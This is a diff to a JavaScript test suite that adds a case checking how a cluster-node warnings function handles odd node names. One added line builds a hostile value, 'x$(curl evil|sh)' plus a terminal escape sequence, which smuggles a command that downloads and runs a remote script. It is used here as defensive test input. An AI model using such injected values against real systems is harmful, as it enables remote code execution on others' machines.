@@ -69,6 +69,14 @@ describe('nodes', () => {
     expect(warnings({ 'test-server-1': { cluster_nodes } })).toMatchObject([{ nodes: ['test-general-2'] }]);
   });
 
+  it('are told of by servers alone, and by names that a node can have', () => {
+    const hostile = 'x$(curl evil|sh)\u001b[2J';
+    const list = [...nodes, hostile, 'a;b', '-x', 'X', ''].join(',');
+    expect(warnings({ 'test-server-1': { cluster_nodes: list } })).toEqual([]);
+    expect(warnings({ 'test-general-1': { cluster_nodes: 'test-old-1' } })).toEqual([]);
+    expect(warnings({ 'test-server-1': { cluster_nodes: hostile } })).toEqual([]);
+  });
+
   it('are no matter while no server says what the cluster has', () => {
     expect(warnings({ 'test-general-1': {} })).toEqual([]);
   });
